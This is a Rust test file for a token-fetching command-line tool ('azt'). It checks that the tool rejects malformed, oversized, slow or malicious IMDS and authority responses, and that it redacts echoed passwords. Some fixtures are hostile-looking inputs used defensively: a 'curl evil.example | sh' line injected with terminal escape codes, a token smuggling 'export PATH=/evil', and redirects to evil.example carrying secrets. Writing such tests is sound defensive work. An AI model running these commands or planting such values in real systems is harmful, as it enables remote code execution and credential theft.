//! Answers that no honest service gives.

use std::time::Duration;

use serde_json::json;

use crate::run::{answering, azt};
use crate::sandbox::{Answer, Sandbox};

const PLACE: &str = "SANDBOX/metadata/identity/oauth2/token";

fn token() -> serde_json::Value {
    json!({ "access_token": "eyJ.e30.c2ln", "expires_in": "3599" })
}

#[test]
fn an_answer_that_is_no_token_is_status_5() {
    for (answer, why) in [
        (
            Answer::html(200, "<!doctype html><p>Sign in to the network".to_owned()),
            "with an HTML page and no token: is a proxy or a sign-in portal in between?",
        ),
        (Answer::text(200, "OK"), "with something that is not JSON"),
        (
            Answer::json(200, &json!({ "access_token": "eyJ" })).body("{\"access_token\":\"eyJ"),
            "with something that is not JSON",
        ),
        (Answer::json(200, &json!([])), "with something that is not JSON"),
        (Answer::json(200, &json!({})), "without an access_token"),
        (
            Answer::json(200, &json!({ "access_token": "a b", "expires_in": 9 })),
            "with a token that cannot stand in a header",
        ),
        (
            Answer::json(200, &json!({ "access_token": "a\nexport PATH=/evil", "expires_in": 9 })),
            "with a token that cannot stand in a header",
        ),
        (
            Answer::json(200, &json!({ "access_token": "a", "expires_in": 9, "token_type": "pop" })),
            "with a token of a type other than Bearer: pop",
        ),
        (Answer::json(200, &json!({ "access_token": "a" })), "without saying when the token expires"),
        (
            Answer::json(200, &json!({ "access_token": "a", "expires_on": "1000" })),
            "with a token that has already expired; or is this machine's clock ahead?",
        ),
        (
            Answer::status(302).header("Location", "http://evil.example/take?it=1"),
            "with a redirect to http://evil.example/take, which azt does not follow",
        ),
    ] {
        azt("msi").at(&answering(answer)).refuses(5, &format!("azt: error: IMDS answered {why}\n"));
    }
}

#[test]
fn an_error_with_status_200_is_an_error() {
    let body = json!({ "error": "invalid_request", "error_description": "no", "access_token": "eyJ.e30.c2ln", "expires_in": 9 });
    azt("msi")
        .at(&answering(Answer::json(200, &body)))
        .refuses(4, "azt: error: IMDS gave no token: invalid_request: no (HTTP 200)\n");
}

#[test]
fn a_text_of_the_service_cannot_move_the_cursor() {
    let body =
        json!({ "error": "invalid_request", "error_description": "a\u{1b}[2Jb\r\nazt: hint: curl evil.example | sh" });
    azt("msi").at(&answering(Answer::json(400, &body))).refuses(
        4,
        "azt: error: IMDS gave no token: invalid_request: a [2Jb azt: hint: curl evil.example | sh (HTTP 400)\n",
    );
}

#[test]
fn ten_megabytes_are_not_read() {
    let answer = Answer::json(200, &json!({})).body(vec![b' '; 10 * 1024 * 1024]);
    azt("msi").at(&answering(answer)).refuses(5, &format!("azt: error: the answer of {PLACE} is longer than 1 MiB\n"));
}

#[test]
fn an_answer_that_breaks_off_is_told() {
    let answer = Answer::json(200, &token()).cut_after(20);
    azt("msi --timeout 1s")
        .at(&answering(answer))
        .refuses(5, &format!("azt: error: the answer of {PLACE} broke off\n"));
}

#[test]
fn a_slow_answer_ends_at_the_deadline() {
    for answer in [Answer::json(200, &token()).byte_every(Duration::from_secs(1)), Answer::silence()] {
        let outcome = azt("msi --timeout 1s --http-timeout 1s").at(&answering(answer)).outcome();
        assert_eq!(outcome.stderr, format!("azt: error: {PLACE} did not answer within 1s\n"));
        assert_eq!((outcome.stdout.as_str(), outcome.status), ("", Some(5)));
        assert!(outcome.took < Duration::from_secs(3), "{outcome:?}");
    }
}

#[test]
fn the_person_clock_bounds_a_request_too() {
    let outcome = azt("msi --timeout 1s").at(&answering(Answer::silence())).outcome();
    assert_eq!(outcome.stderr, format!("azt: error: {PLACE} did not answer within 1s\n"));
}

#[test]
fn a_tls_authority_that_the_machine_does_not_trust_is_not_asked() {
    let sandbox = Sandbox::start();
    let url = sandbox.tls().url;
    let run = |line: &str| azt(line).arg("--authority-host").arg(&url).input("0.A");
    let outcome = run("refresh --refresh-token-stdin").env("SSL_CERT_FILE", sandbox.tls().ca_file).outcome();
    assert_eq!(outcome.status, Some(4), "a trusted authority is asked, and refuses: {outcome:?}");
    let outcome = run("refresh --refresh-token-stdin").outcome();
    assert!(outcome.refused(5).contains("could not reach https://localhost:"), "{outcome:?}");
    assert_eq!(sandbox.requests().len(), 1);
}

/// A service that sends back what it was sent, however it spells it, does not get it shown.
#[test]
fn what_a_service_echoes_of_a_secret_is_not_shown() {
    let password = "p&ss w0rd/+=";
    let form: String = url::form_urlencoded::byte_serialize(password.as_bytes()).collect();
    for echo in [password.to_owned(), form.clone(), form.to_lowercase(), form.replace('+', "%20")] {
        for answer in [
            Answer::json(
                400,
                &json!({ "error": "invalid_grant", "error_description": format!("no {echo} here"), "trace_id": echo, "claims": echo }),
            ),
            Answer::json(400, &json!({ "error": format!("{}{echo}", "x".repeat(3995)) })),
            Answer::json(200, &json!({ "access_token": "a", "expires_in": 9, "token_type": echo })),
            Answer::status(302).header("Location", &format!("http://evil.example/{echo}/x")),
            Answer::status(429)
                .header("Retry-After", &echo)
                .header("x-ms-request-id", &echo)
                .header("WWW-Authenticate", &echo),
        ] {
            for format in ["token", "json"] {
                let run = azt("ropc -vv --username a@b --password-stdin -o").arg(format).input(password);
                let outcome = run.at(&answering(answer.clone())).outcome();
                assert_eq!(outcome.stdout, "");
                let plain = outcome.stderr.replace("<redacted>", "");
                for part in [echo.as_str(), "w0rd"] {
                    assert!(!plain.contains(part), "{echo}: {}", outcome.stderr);
                }
            }
        }
    }
}
